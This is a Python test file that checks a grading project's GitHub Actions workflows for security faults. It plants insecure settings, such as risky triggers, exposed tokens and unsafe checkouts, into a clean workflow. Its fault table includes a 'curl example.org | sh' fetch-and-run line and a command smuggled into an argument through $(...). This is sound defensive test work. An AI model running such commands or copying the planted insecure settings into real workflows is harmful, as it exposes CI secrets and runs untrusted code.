"""The workflows: linted, and checked against our own rules, each of which finds a planted fault."""

from __future__ import annotations

import os
import shutil
import subprocess
import sysconfig
from pathlib import Path

import pytest
import yaml

from tests.conftest import ROOT
from tests.workflows import rules

FILES = rules.files(ROOT)
IDS = [path.name for path in FILES]
# The first jobs of grade.yml at their shortest, with no finding.
GOOD = """\
name: Good
on:
  schedule:
    - cron: "7 * * * *"
  workflow_dispatch:
permissions: {}
concurrency:
  group: good
  cancel-in-progress: false
  queue: max
jobs:
  plan:
    name: Plan
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    environment: reading
    permissions:
      contents: read # the course
    outputs:
      artifact: ${{ steps.keep.outputs.artifact-id }}
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          persist-credentials: false
      - id: app
        uses: actions/create-github-app-token@1b10c78c7865c340bc4f6099eb2f838309f1e8c3 # v3.1.1
        with:
          client-id: ${{ vars.CLIENT_ID }}
          private-key: ${{ secrets.PRIVATE_KEY }}
          owner: ${{ github.repository_owner }}
          repositories: ${{ !contains(vars.GRADUS_COURSE_REPO, '*') && vars.GRADUS_COURSE_REPO || '' }}
          permission-contents: read
      - env:
          TOKEN: ${{ steps.app.outputs.token }}
        run: python3 -P -m gradus.pulls fetch "$RUNNER_TEMP/work"
      - id: keep
        uses: actions/upload-artifact@bbbca2ddaa5d8feaa63e36b76fdaad77386f024f # v7.0.0
        with:
          name: work
          path: ${{ runner.temp }}/work
          retention-days: 1
  grade:
    name: Grade
    needs: plan
    runs-on: ubuntu-24.04
    timeout-minutes: 90
    permissions:
      contents: read # the course
    steps:
      - uses: actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1
        with:
          artifact-ids: ${{ needs.plan.outputs.artifact }}
          path: ${{ runner.temp }}/work
      - run: uv run gradus grade "$RUNNER_TEMP"/work/* --out reports
"""
GRADE = '      - run: uv run gradus grade "$RUNNER_TEMP"/work/* --out reports\n'
FETCH = 'run: python3 -P -m gradus.pulls fetch "$RUNNER_TEMP/work"'
KEEP = "          persist-credentials: false\n"
FAULTS = {
    "is triggered by pull_request_target": ("  schedule:\n", "  pull_request_target:\n  schedule:\n"),
    "is triggered by workflow_run": ("  schedule:\n", "  workflow_run:\n    workflows: [CI]\n  schedule:\n"),
    "is triggered by issue_comment": ("  schedule:\n", "  issue_comment:\n  schedule:\n"),
    "grants permissions at workflow level": ("permissions: {}", "permissions: read-all"),
    "has no concurrency group": ("  group: good\n", ""),
    "lets the clock take the place": ("  queue: max\n", ""),
    "lets the clock take the place of a run that somebody asked for": (
        "  cancel-in-progress: false\n  queue: max\n",
        "  cancel-in-progress: true\n  queue: max\n",
    ),
    "has a token in the environment of all jobs": ("jobs:\n", "env:\n  T: ${{ github.token }}\njobs:\n"),
    "does not pin by commit": ("checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "checkout@v7"),
    "with a version comment": (" # v7.0.1", ""),
    "an action that is not allowed: actions/cache": ("uses: actions/upload-artifact", "uses: actions/cache"),
    "has no permissions": ("    permissions:\n      contents: read # the course\n    steps", "    steps"),
    "plan: has no timeout of at most 120 minutes": ("    timeout-minutes: 5\n", ""),
    "grade: has no timeout of at most 120 minutes": ("timeout-minutes: 90", "timeout-minutes: 360"),
    "a GitHub-hosted runner": ("runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    "a fixed version": ("runs-on: ubuntu-24.04", "runs-on: ubuntu-latest"),
    "plan: costs minutes in a private copy": ("  schedule:\n", "  push:\n  schedule:\n"),
    "grade: costs minutes in a private copy": ("  schedule:\n", "  push:\n  schedule:\n"),
    "may request an OIDC token": ("contents: read # the course", "id-token: write"),
    "a secret outside an environment": ("    environment: reading\n", ""),
    "has a token in the environment of all steps": (
        "    environment: reading\n",
        "    environment: reading\n    env:\n      K: ${{ secrets.PRIVATE_KEY }}\n",
    ),
    "a pull request can change the workflow": ("  schedule:\n", "  pull_request:\n  schedule:\n"),
    "grade: runs students' code and has a token": (GRADE, GRADE + "        env:\n          T: ${{ github.token }}\n"),
    "plan: runs students' code and has a token": (FETCH, "run: uv run pytest"),
    "runs students' code with more than read access": (
        "    timeout-minutes: 90\n    permissions:\n      contents: read # the course",
        "    timeout-minutes: 90\n    permissions:\n      pull-requests: write",
    ),
    "runs students' code and uses a cache": (
        GRADE,
        GRADE + "      - uses: astral-sh/setup-uv@bbbca2ddaa5d8feaa63e36b76fdaad77386f024f # v7.0.0\n"
        "        with:\n          enable-cache: true\n",
    ),
    "an expression in a script": (GRADE, GRADE + "      - run: echo ${{ github.head_ref }}\n"),
    "grade: fetches code by a command": (GRADE, "      - run: git fetch origin pull/1/head\n" + GRADE),
    "plan: fetches code by a command": (FETCH, "run: gh pr checkout 1"),
    "changes the environment of later steps": (GRADE, '      - run: echo x >> "$GITHUB_PATH"\n' + GRADE),
    "keeps credentials after a checkout": (KEEP, "          fetch-depth: 1\n"),
    "checks out other code, by ref": (KEEP, KEEP + "          ref: ${{ github.event.pull_request.head.sha }}\n"),
    "checks out other code, by repository": (KEEP, KEEP + "          repository: student/fork\n"),
    "checks out other code, by allow-unsafe": (KEEP, KEEP + "          allow-unsafe-pr-checkout: true\n"),
    "an artifact whose name is not fixed": ("name: work", "name: ${{ github.head_ref }}"),
    "an artifact outside the temporary folder": ("path: ${{ runner.temp }}/work", "path: work"),
    "plan: has an artifact that is kept longer": ("          retention-days: 1\n", ""),
    "kept longer or larger than needed": ("retention-days: 1\n", "retention-days: 1\n          compression-level: 0\n"),
    "an artifact of another run": (
        "          artifact-ids:",
        "          run-id: ${{ github.event.workflow_run.id }}\n          artifact-ids:",
    ),
    "by its name, which another job could have used": (
        "artifact-ids: ${{ needs.plan.outputs.artifact }}",
        "name: work",
    ),
    "requests a token with more rights than needed": (f"          repositories: {rules.REPOSITORIES}\n", ""),
    "plan: requests a token with more rights": (rules.REPOSITORIES, '""'),
    "a token with more rights than needed": ("permission-contents: read", "permission-contents: write"),
    "token with more rights than needed": ("permission-contents: read", "permission-administration: read"),
    "with more rights than needed": ("          permission-contents: read\n", ""),
    "plan: has a token and runs something other": (FETCH, "run: pip install requests"),
    "something other than gradus.pulls: python3 -P -m gradus.pulls fetch $(": (
        FETCH,
        'run: python3 -P -m gradus.pulls fetch $(echo "$TOKEN")',
    ),
    "something other than gradus.pulls: python3 -P -m gradus.pulls fetch x && curl": (
        FETCH,
        "run: python3 -P -m gradus.pulls fetch x && curl example.org | sh",
    ),
}


@pytest.mark.parametrize("path", FILES, ids=IDS)
def test_no_workflow_breaks_our_rules(path: Path) -> None:
    assert rules.findings(path.read_text("utf-8")) == []


def test_the_rules_see_all_workflows() -> None:
    assert {"ci.yml", "grade.yml", "checks.yml"} <= set(IDS)
    assert rules.findings(GOOD) == []


@pytest.mark.parametrize("words", FAULTS)
def test_each_rule_finds_a_planted_fault(words: str) -> None:
    before, after = FAULTS[words]
    assert before in GOOD
    assert [finding for finding in rules.findings(GOOD.replace(before, after)) if words in finding]


@pytest.mark.parametrize(
    "condition", ["true", "${{ vars.GRADUS_CI == 'true' }}", "${{ github.event.repository.private }}"]
)
def test_ci_costs_nothing_in_a_private_copy(condition: str) -> None:
    text = (ROOT / ".github/workflows/ci.yml").read_text("utf-8")
    assert text.count(f"    if: {rules.UNPAID}\n") == len(yaml.safe_load(text)["jobs"])
    for wrong in (text.replace(rules.UNPAID, condition, 1), text.replace(f"    if: {rules.UNPAID}\n", "", 1)):
        assert rules.findings(wrong) == ["lint: costs minutes in a private copy"]


def test_each_action_has_the_same_version_everywhere() -> None:
    used = {line.strip("- \n") for path in FILES for line in path.read_text("utf-8").splitlines() if "uses:" in line}
    assert len(used) == len({line.partition("@")[0] for line in used})


def test_the_students_workflow_can_only_read() -> None:
    (checks,) = [path for path in FILES if path.name == "checks.yml"]
    text = checks.read_text("utf-8")
    assert "secrets" not in text and "write" not in text and "environment" not in text


# Linters

ZIZMOR = "zizmor --offline --strict-collection --persona=auditor --no-progress"
SCHEMA = "check-jsonschema --builtin-schema vendor.github-workflows"
ACTIONLINT = "actionlint -no-color -pyflakes="
# What our own rules don't look for: that a workflow's parts fit together. To find in GOOD, and what actionlint says.
MISFITS = {
    'undefined variable "guthub"': ("${{ github.repository_owner }}", "${{ guthub.repository_owner }}"),
    'needs job "plans" which does not exist': ("    needs: plan\n", "    needs: plans\n"),
    'property "artefact" is not defined': ("needs.plan.outputs.artifact }}", "needs.plan.outputs.artefact }}"),
    'property "kept" is not defined': ("steps.keep.outputs", "steps.kept.outputs"),
    'unknown permission scope "content"': ("contents: read # the course", "content: read # the course"),
    'label "ubuntu-2404" is unknown': ("runs-on: ubuntu-24.04", "runs-on: ubuntu-2404"),
    'invalid CRON format "7 * * *"': ('"7 * * * *"', '"7 * * *"'),
    "SC2086": (GRADE, "      - run: echo $HOME\n"),
}


def tool(command: str, *arguments: object) -> subprocess.CompletedProcess[str]:
    """Run a linter of the environment that these tests run in; actionlint looks for shellcheck there, too."""
    scripts = sysconfig.get_path("scripts")
    name, *options = command.split()
    program = shutil.which(name, path=scripts)
    assert program, f"{name} is not installed: uv sync"
    words = [program, *options, *map(str, arguments)]
    known = {**os.environ, "PATH": f"{scripts}{os.pathsep}{os.environ.get('PATH', '')}"}
    return subprocess.run(words, env=known, capture_output=True, text=True, encoding="utf-8", timeout=60)


@pytest.mark.parametrize("command", [ZIZMOR, SCHEMA, ACTIONLINT], ids=lambda command: command.split()[0])
def test_linters_find_nothing(command: str) -> None:
    done = tool(command, *FILES)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize("words", MISFITS)
def test_actionlint_finds_what_does_not_fit(words: str, tmp_path: Path) -> None:
    (tmp_path / "good.yml").write_text(GOOD, "utf-8")
    assert tool(ACTIONLINT, tmp_path / "good.yml").returncode == 0
    before, after = MISFITS[words]
    assert before in GOOD
    (tmp_path / "bad.yml").write_text(GOOD.replace(before, after), "utf-8")
    done = tool(ACTIONLINT, tmp_path / "bad.yml")
    assert done.returncode == 1 and words in done.stdout, done.stdout + done.stderr


def test_shell_scripts(tmp_path: Path) -> None:
    scripts = {f"{path.stem}-{n}": text for path in FILES for n, text in enumerate(rules.runs(path.read_text("utf-8")))}
    for name, script in scripts.items():
        (tmp_path / f"{name}.sh").write_text(f"#!/usr/bin/env bash\nset -eo pipefail\n{script}\n", "utf-8")
    done = tool("shellcheck --norc", ROOT / ".ci" / "run", *tmp_path.iterdir())
    assert scripts and done.returncode == 0, done.stdout
